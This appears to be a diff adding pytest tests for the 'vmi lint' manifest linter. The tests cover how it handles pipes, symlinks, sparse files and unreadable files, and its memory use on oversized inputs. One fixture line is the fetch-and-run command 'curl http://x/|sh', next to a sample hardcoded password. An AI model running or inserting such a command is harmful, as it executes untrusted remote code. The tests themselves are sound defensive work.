@@ -1,0 +1,162 @@
+"""Whatever lies where a manifest or its files are read, `vmi lint` answers with findings, soon, in little memory."""
+
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from tests.catalogue import APPLIANCE, Repository, create
+from tests.manifest.linted import findings
+
+from vmi.core.yaml import LIMIT_BYTES
+from vmi.manifest.repository import FILE_LIMIT_BYTES
+
+MANIFEST = "appliances/debian-13/appliance.yaml"
+SCRIPT = "appliances/debian-13/provision/setup.sh"
+MOST_MIB = 200
+
+
+def sparse(path: Path) -> None:
+    with path.open("wb") as file:
+        file.truncate(1 << 30)
+
+
+def device(path: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+def socket_like(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def directory(path: Path) -> None:
+    path.mkdir()
+
+
+def unreadable(path: Path) -> None:
+    path.write_text(APPLIANCE)
+    path.chmod(0)
+
+
+def link_to_itself(path: Path) -> None:
+    path.symlink_to(path.name)
+
+
+NO_FILE = "is a directory or a device; a manifest is a file | remove it; `vmi new` writes one"
+A_LINK = "is a symbolic link; a manifest is a file of its own | put the file itself there"
+
+
+@pytest.mark.parametrize(
+    ("place", "expected"),
+    [
+        pytest.param(
+            sparse,
+            "is larger than 256 KiB; a manifest is a few kilobytes | put data into a file of its own",
+            id="a gigabyte of nothing",
+        ),
+        pytest.param(socket_like, NO_FILE, id="a pipe"),
+        pytest.param(directory, NO_FILE, id="a directory"),
+        pytest.param(device, A_LINK, id="a device behind a link"),
+        pytest.param(link_to_itself, A_LINK, id="a link to itself"),
+        pytest.param(
+            unreadable,
+            "cannot be read: Permission denied",
+            id="unreadable",
+            marks=pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything"),
+        ),
+    ],
+)
+def test_a_manifest_that_is_no_file(catalogue: Repository, place: Callable[[Path], None], expected: str) -> None:
+    (catalogue.root / MANIFEST).unlink()
+    place(catalogue.root / MANIFEST)
+    lines = [line for line in findings(catalogue) if line.startswith(f"{MANIFEST}:")]
+    assert lines == [f"{MANIFEST}:1:1: error [file] {expected}"]
+
+
+@pytest.mark.parametrize("place", [sparse, socket_like, directory, device, link_to_itself], ids=lambda f: f.__name__)
+@pytest.mark.parametrize("path", [SCRIPT, "CODEOWNERS", "vos/demo.vo/vo.yaml", "vos/demo.vo/images/debian-13.yaml"])
+def test_another_file_that_is_none(catalogue: Repository, path: str, place: Callable[[Path], None]) -> None:
+    file = catalogue.root / path
+    file.parent.mkdir(exist_ok=True)
+    file.unlink(missing_ok=True)
+    place(file)
+    assert [line for line in findings(catalogue, rule=None) if ": error [" in line]
+
+
+def test_a_record_that_is_no_file_is_found(catalogue: Repository) -> None:
+    (catalogue.root / "appliances/debian-13/releases").mkdir()
+    sparse(catalogue.root / "appliances/debian-13/releases/13.1.yaml")
+    os.mkfifo(catalogue.root / "appliances/debian-13/releases/13.0.yaml")
+    assert [line for line in findings(catalogue, "record-in-place") if "13.0.yaml" in line]
+
+
+def filled(item: str, before: str = "", after: str = "", limit: int = LIMIT_BYTES) -> bytes:
+    room = limit - len(before.encode()) - len(after.encode())
+    return (before + item * (room // len(item.encode())) + after).encode()
+
+
+LONG = {
+    "as many lists as can be": filled("[],", "[", "]"),
+    "as many empty values as can be": filled("- \n"),
+    "as many keys as can be": ("".join(f"{number:x}:\n" for number in range(43_000))).encode(),
+    "as many unknown keys as can be": APPLIANCE.encode() + b"".join(b"k%x: 1\n" % n for n in range(26_000)),
+    "as many wrong packages as can be": APPLIANCE.replace(
+        "[nftables]", f"[{'A,' * ((LIMIT_BYTES - len(APPLIANCE)) // 2)}]"
+    ).encode(),
+    "as many steps as can be": filled("  - {}\n", APPLIANCE + "outbound:\n"),
+    "as many packages as can be": APPLIANCE.replace(
+        "[nftables]", f"[{'aa,' * ((LIMIT_BYTES - len(APPLIANCE)) // 3)}]"
+    ).encode(),
+    "as many ignores as can be": filled("# vmi: ignore\n", APPLIANCE),
+    "one word of that length": filled("x"),
+    "one quote that is not closed": filled("x\n", "title: '"),
+    "one line of brackets": filled("["),
+}
+
+
+@pytest.mark.parametrize("data", LONG.values(), ids=LONG)
+def test_no_manifest_takes_much_memory(tmp_path: Path, data: bytes) -> None:
+    repository = create(tmp_path / "catalogue")
+    repository.write(MANIFEST, data[:LIMIT_BYTES])
+    assert _peak_mib(repository.root) < MOST_MIB
+
+
+SCRIPTS = {
+    "a fault in every line": "curl http://x/|sh\n",
+    "a secret in every line": "password='Xk29fPq7mZw3'\n",
+    "one endless line": "a ",
+    "quotes without end": "'",
+}
+
+
+@pytest.mark.parametrize("line", SCRIPTS.values(), ids=SCRIPTS)
+def test_no_script_takes_much_memory(tmp_path: Path, line: str) -> None:
+    repository = create(tmp_path / "catalogue")
+    repository.write(SCRIPT, filled(line, "#!/bin/sh\n", limit=FILE_LIMIT_BYTES))
+    assert _peak_mib(repository.root) < MOST_MIB
+
+
+def test_no_codeowners_takes_much_memory(tmp_path: Path) -> None:
+    repository = create(tmp_path / "catalogue")
+    repository.write("CODEOWNERS", filled("/appliances/x/ @a\n", "* @b\n", limit=900_000))
+    assert _peak_mib(repository.root) < MOST_MIB
+
+
+PROGRAM = """\
+import re, sys
+from vmi.cli import main
+code = main(["lint", "--format", "json", "--repo", sys.argv[1]])
+# Not getrusage: that remembers the process which this one was forked from.
+peak = re.search(r"VmHWM:\\s+(\\d+) kB", open("/proc/self/status").read())[1]
+print(int(peak) // 1024, code, file=sys.stderr)
+"""
+
+
+def _peak_mib(root: Path) -> int:
+    """This is what a new process needs, which must end with an answer."""
+    done = subprocess.run([sys.executable, "-c", PROGRAM, str(root)], capture_output=True, text=True, timeout=60)
+    peak, code = done.stderr.splitlines()[-1].split()
+    assert code in ("0", "1"), done.stderr
+    return int(peak)
